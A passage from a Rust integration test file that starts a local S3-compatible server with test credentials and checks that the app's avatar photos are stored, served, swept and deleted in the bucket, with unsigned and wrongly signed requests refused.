        cost.push(fewest);
    }
    // One more statement for the twenty (two if a slow build splits the batch).
    assert!(
        cost[1] - cost[0] <= 2,
        "inPersonAttestations of 20 avatars: {cost:?} statements"
    );
}

// ---- An S3-compatible store ----

/// The access key of the S3 server the tests start.
const S3_KEY_ID: &str = "AKIAKITHTEST";
/// Its secret.
const S3_SECRET: &str = "kith-test-secret-0123456789";

/// A real S3-compatible server (s3s, its objects in a folder by s3s-fs), on a loopback port
/// of this process, that accepts only requests signed (SigV4) with [`S3_KEY_ID`] and
/// [`S3_SECRET`]; it has one bucket, `kith-media`. Its endpoint URL, and the folder (kept
/// alive by the caller).
async fn s3_server() -> (String, tempfile::TempDir) {
    use hyper_util::rt::TokioIo;
    use s3s::auth::SimpleAuth;
    use s3s::service::S3ServiceBuilder;

    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir(root.path().join("kith-media")).unwrap();
    let mut builder = S3ServiceBuilder::new(s3s_fs::FileSystem::new(root.path()).unwrap());
    builder.set_auth(SimpleAuth::from_single(S3_KEY_ID, S3_SECRET));
    let service = builder.build();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            let service = service.clone();
            tokio::spawn(async move {
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(socket), service)
                    .await;
            });
        }
    });
    (endpoint, root)
}

/// A client of the test server's bucket, under `photos/` as the app is configured.
fn bucket_client(endpoint: &str, secret: &str) -> kith::media::store::Bucket {
    kith::media::store::Bucket::s3(&kith::config::S3Settings {
        bucket: "kith-media".into(),
        prefix: "photos".into(),
        endpoint: Some(endpoint.to_owned()),
        region: "us-east-1".into(),
        access_key_id: Some(S3_KEY_ID.into()),
        secret_access_key: Some(secret.into()),
        session_token: None,
    })
    .unwrap()
}

/// The stored file's name a media URL ends with.
fn file_name(url: &str) -> String {
    url.rsplit('/').next().unwrap().to_owned()
}

#[tokio::test]
async fn with_s3_photos_are_stored_served_and_deleted_in_the_bucket() {
    use kith::media::store::Store;

    let (endpoint, _s3_root) = s3_server().await;
    // The server checks signatures: an unsigned request and one signed with a wrong secret
    // are refused.
    let unsigned = reqwest::get(format!("{endpoint}/kith-media/photos/x"))
        .await
        .unwrap();
    assert_eq!(unsigned.status(), 403);
    let forged = bucket_client(&endpoint, "not-the-secret");
    let name = format!("{}.160.jpg", "c".repeat(64));
    assert!(forged.put(&name, b"x".to_vec()).await.is_err());
    let bucket = bucket_client(&endpoint, S3_SECRET);
    assert_eq!(
        bucket.get(&name).await.unwrap(),
        None,
        "nothing was written"
    );

    let app = spawn_app_with(&[
        ("KITH_S3_URL", "s3://kith-media/photos"),
        ("KITH_S3_ENDPOINT", endpoint.as_str()),
        ("AWS_ACCESS_KEY_ID", S3_KEY_ID),
        ("AWS_SECRET_ACCESS_KEY", S3_SECRET),
        ("AWS_REGION", "us-east-1"),
    ])
    .await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let (status, body) = app
        .upload(
            &ann,
            &set_avatar(),
            json!({}),
            sideways_jpeg_with_gps(),
            "me.jpg",
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let shown = urls(&body["data"]["setAvatar"]["avatar"]);
    for url in &shown {
        // Served by the app from the bucket, upright and without metadata...
        let picture = served(&app, url).await;
        assert_eq!(picture.height(), 2 * picture.width(), "{url}");
        // ...and the very bytes the bucket holds.
        let served_bytes = app.fetch(url).await.bytes().await.unwrap();
        let stored = bucket.get(&file_name(url)).await.unwrap();
        assert_eq!(stored.as_deref(), Some(&served_bytes[..]), "{url}");
    }
    assert_eq!(
        std::fs::read_dir(&app.media_dir).unwrap().count(),
        0,
        "nothing goes to the local folder"
    );

    // The sweep works on the bucket: a stray file left by a dying process goes, two hours
    // on; the avatar's files stay.
    let stray = format!("{}.640.jpg", "d".repeat(64));
    bucket.put(&stray, b"stray".to_vec()).await.unwrap();
    let later = chrono::Utc::now() + chrono::Duration::hours(2);
    let swept = kith::domain::images::sweep(&app.state.db, &app.state.media, later)
        .await
        .unwrap();
    assert_eq!(swept.files, 1);
    assert_eq!(bucket.get(&stray).await.unwrap(), None);
    for url in &shown {
        assert!(
            bucket.get(&file_name(url)).await.unwrap().is_some(),
            "{url}"
        );
    }

    // Removing the avatar deletes its objects: gone from the bucket, 404 at the URLs.
    let removed = app.data_as(&ann, REMOVE_AVATAR, json!({})).await;
    assert!(removed["removeAvatar"]["avatar"].is_null());
    for url in &shown {
        assert_eq!(bucket.get(&file_name(url)).await.unwrap(), None, "{url}");
        assert_eq!(app.fetch(url).await.status(), 404, "{url}");
    }
}
